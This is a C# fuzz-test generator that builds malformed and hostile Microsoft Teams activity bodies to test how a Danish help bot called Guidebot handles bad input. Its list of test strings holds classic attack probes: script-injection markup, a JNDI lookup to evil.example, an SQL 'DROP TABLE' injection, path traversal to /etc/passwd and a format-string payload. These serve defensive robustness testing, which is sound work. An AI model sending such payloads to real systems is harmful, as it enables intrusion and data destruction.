using System.Text;
using System.Text.Json.Nodes;
using CsCheck;

namespace Guidebot.ReliabilityTests.HostileInput;

/// <summary>
/// Generators of hostile request bodies: a valid Teams activity for one conversation, mutated — fields of the wrong
/// JSON type, missing fields, huge strings and arrays, deep nesting, control characters, markup, unknown activity
/// types and invoke names, card submits with unexpected value shapes — and raw byte damage (invalid UTF-8, truncation).
/// </summary>
internal static class HostileActivities
{
    public const string Conversation = "hostile-conversation";

    private static readonly string[] Paths =
    [
        "type", "id", "channelId", "serviceUrl", "from", "from.id", "from.name", "recipient", "recipient.id", "conversation",
        "conversation.id", "conversation.conversationType", "text", "value", "name", "deliveryMode", "locale", "timestamp",
        "replyToId", "attachments", "entities", "channelData", "membersAdded", "membersRemoved", "action", "textFormat",
        "suggestedActions", "value.verb", "value.item", "value.area", "value.page", "value.query", "channelData.tenant.id",
    ];

    private static readonly string[] Types =
    [
        "message", "invoke", "conversationUpdate", "installationUpdate", "typing", "event", "messageReaction", "endOfConversation",
        "Message", "MESSAGE", " message", "", "invokeResponse", "trace", "💥", "message\u0000", "delete", "__proto__",
    ];

    private static readonly string[] InvokeNames =
    [
        "adaptiveCard/action", "composeExtension/query", "composeExtension/fetchTask", "task/fetch", "signin/verifyState",
        "fileConsent/invoke", "actionableMessage/executeAction", "", "../../etc/passwd", "composeExtension/query\u0000x",
    ];

    private static readonly string[] NastyStrings =
    [
        "", " ", "\u0000", "\u0001\u0002\u0003\u001f\u007f", "\r\n\r\n", "\t", "\u200b\u200e\u202e", "\ud83d\ude00", "\ufeff", "\uffff",
        "[klik her](https://evil.example/phish)", "**fed** _kursiv_ `kode` # overskrift", "<script>alert(1)</script>",
        "<a href=\"javascript:alert(1)\">x</a>", "{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"}",
        "${jndi:ldap://evil.example/a}", "'; DROP TABLE storage_items; --", "../../../../etc/passwd", "%s%s%s%n",
        "menu", "tilbage", "hjælp", "forfra", "1", "-1", "NaN", "null", "true", "áàâäãåæøÆØÅ", "{{card}}", "\\u0000",
        "0101901234", "010190-1234", "jeg har depression og diabetes",
    ];

    /// <summary>One request body: mostly a mutated activity, sometimes damaged bytes.</summary>
    public static Gen<byte[]> Body => Gen.Frequency(
        (8, MutatedActivity.Select(json => Encoding.UTF8.GetBytes(json.ToJsonString()))),
        (1, MutatedActivity.Select(Gen.Int[0, 1_000], Gen.Byte, Damage)),
        (1, RawNonsense));

    private static Gen<JsonNode> MutatedActivity =>
        Gen.Frequency((3, Mutation), (1, Mutation.Array[2, 5].Select(Combine)))
            .Select(mutate =>
            {
                var activity = Valid();
                mutate(activity);
                return (JsonNode)activity;
            });

    private static Gen<Action<JsonObject>> Mutation => Gen.OneOf(
        Gen.Select(Pick(Paths), AnyValue, (path, value) => (Action<JsonObject>)(a => Set(a, path, value))),
        Pick(Paths).Select(path => (Action<JsonObject>)(a => Remove(a, path))),
        Pick(Types).Select(type => (Action<JsonObject>)(a => a["type"] = type)),
        Pick(InvokeNames).Select(Gen.OneOf(CardValue, AnyValue), (name, value) => (Action<JsonObject>)(a =>
        {
            a["type"] = "invoke";
            a["name"] = name;
            a["value"] = value?.DeepClone();
        })),
        CardValue.Select(value => (Action<JsonObject>)(a => a["value"] = value?.DeepClone())),
        HostileText.Select(text => (Action<JsonObject>)(a => a["text"] = text)));

    /// <summary>What a card submit could carry instead of what our buttons send.</summary>
    private static Gen<JsonNode?> CardValue => Gen.OneOf(
        Gen.Int.Select(i => (JsonNode?)new JsonObject { ["verb"] = "item", ["item"] = i }),
        Gen.Int.Select(i => (JsonNode?)new JsonObject { ["verb"] = i }),
        Pick("item", "area", "search", "menu", "tilbage", "hjælp", "ukendt", "").Select(AnyValue, AnyValue, (verb, a, b) =>
            (JsonNode?)new JsonObject { ["verb"] = verb, ["item"] = a?.DeepClone(), ["area"] = b?.DeepClone(), ["page"] = b?.DeepClone(), ["query"] = a?.DeepClone() }),
        Pick("area", "item").Select(Gen.Int[-5, 1_000_000], (verb, page) =>
            (JsonNode?)new JsonObject { ["verb"] = verb, ["area"] = "raaderum", ["item"] = "raaderum-1", ["page"] = page }),
        AnyValue.Array[0, 5].Select(items => (JsonNode?)new JsonArray([.. items.Select(item => item?.DeepClone())])),
        Deep.Select(deep => (JsonNode?)new JsonObject { ["verb"] = deep }));

    private static Gen<string> HostileText => Gen.OneOf(
        Pick(NastyStrings),
        Pick(NastyStrings).Array[2, 6].Select(parts => string.Concat(parts)),
        Gen.String[Gen.Char, 0, 200],
        Gen.Int[10_000, 300_000].Select(length => new string('å', length)),
        Gen.Int[0, 64].Select(n => string.Concat(Enumerable.Repeat("[", n)) + "**" + string.Concat(Enumerable.Repeat("](javascript:x)", n))));

    private static Gen<JsonNode?> AnyValue => Gen.OneOf(
        Gen.Const(() => (JsonNode?)null),
        Gen.Bool.Select(b => (JsonNode?)JsonValue.Create(b)),
        Gen.Int.Select(i => (JsonNode?)JsonValue.Create(i)),
        Gen.Double.Select(d => (JsonNode?)(double.IsFinite(d) ? JsonValue.Create(d) : JsonValue.Create(0.1))),
        Gen.Long.Select(l => (JsonNode?)JsonValue.Create(l)),
        HostileText.Select(s => (JsonNode?)JsonValue.Create(s)),
        Gen.Int[0, 5_000].Select(n => (JsonNode?)new JsonArray([.. Enumerable.Range(0, n).Select(i => (JsonNode?)JsonValue.Create(i))])),
        Gen.Const(() => (JsonNode?)new JsonObject()),
        Gen.Const(() => (JsonNode?)new JsonArray()),
        Deep);

    private static Gen<JsonNode?> Deep => Gen.Int[1, 200].Select(depth =>
    {
        JsonNode node = JsonValue.Create("bund")!;
        for (var i = 0; i < depth; i++)
        {
            node = i % 2 == 0 ? new JsonArray(node) : new JsonObject { ["x"] = node };
        }

        return (JsonNode?)node;
    });

    private static Gen<byte[]> RawNonsense => Gen.OneOf(
        Gen.Byte.Array[0, 2_000],
        Gen.Int[1, 100_000].Select(depth => Encoding.UTF8.GetBytes(new string('[', depth) + new string(']', depth))),
        Gen.Int[1, 100_000].Select(depth => Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth))),
        Pick("", "null", "[]", "{}", "\"message\"", "42", "{\"type\":", "{\"type\":\"message\"}}", "{\"type\":\"message\",\"type\":1}")
            .Select(Encoding.UTF8.GetBytes));

    private static Gen<T> Pick<T>(params T[] choices) => Gen.Int[0, choices.Length - 1].Select(i => choices[i]);

    public static JsonObject Valid(string? text = "hej") => new()
    {
        ["type"] = "message",
        ["id"] = Guid.NewGuid().ToString("N"),
        ["channelId"] = "msteams",
        ["serviceUrl"] = Support.Turns.NowhereServiceUrl,
        ["from"] = new JsonObject { ["id"] = "29:user-1", ["name"] = "Konsulent" },
        ["recipient"] = new JsonObject { ["id"] = "28:guidebot", ["name"] = "Guidebot" },
        ["conversation"] = new JsonObject { ["id"] = Conversation, ["conversationType"] = "personal" },
        ["locale"] = "da-DK",
        ["text"] = text,
        ["deliveryMode"] = "expectReplies",
    };

    private static Action<JsonObject> Combine(Action<JsonObject>[] mutations) => activity =>
    {
        foreach (var mutate in mutations)
        {
            mutate(activity);
        }
    };

    // Invalid UTF-8, a truncated body, or a stray byte in the middle of valid JSON.
    private static byte[] Damage(JsonNode activity, int position, byte value)
    {
        var bytes = Encoding.UTF8.GetBytes(activity.ToJsonString()).ToList();
        var at = Math.Min(position, bytes.Count);
        return (value % 3) switch
        {
            0 => [.. bytes.Take(at)],
            1 => [.. bytes.Take(at), (byte)0xC3, (byte)0x28, .. bytes.Skip(at)],
            _ => [.. bytes.Take(at), (byte)0xFF, value, .. bytes.Skip(at)],
        };
    }

    private static void Set(JsonObject activity, string path, JsonNode? value)
    {
        var (parent, name) = Parent(activity, path, create: true);
        if (parent is not null)
        {
            parent[name] = value?.DeepClone();
        }
    }

    private static void Remove(JsonObject activity, string path)
    {
        var (parent, name) = Parent(activity, path, create: false);
        parent?.Remove(name);
    }

    private static (JsonObject? Parent, string Name) Parent(JsonObject activity, string path, bool create)
    {
        var parts = path.Split('.');
        var current = activity;
        foreach (var part in parts[..^1])
        {
            if (current[part] is JsonObject child)
            {
                current = child;
            }
            else if (create)
            {
                var fresh = new JsonObject();
                current[part] = fresh;
                current = fresh;
            }
            else
            {
                return (null, parts[^1]);
            }
        }

        return (current, parts[^1]);
    }
}
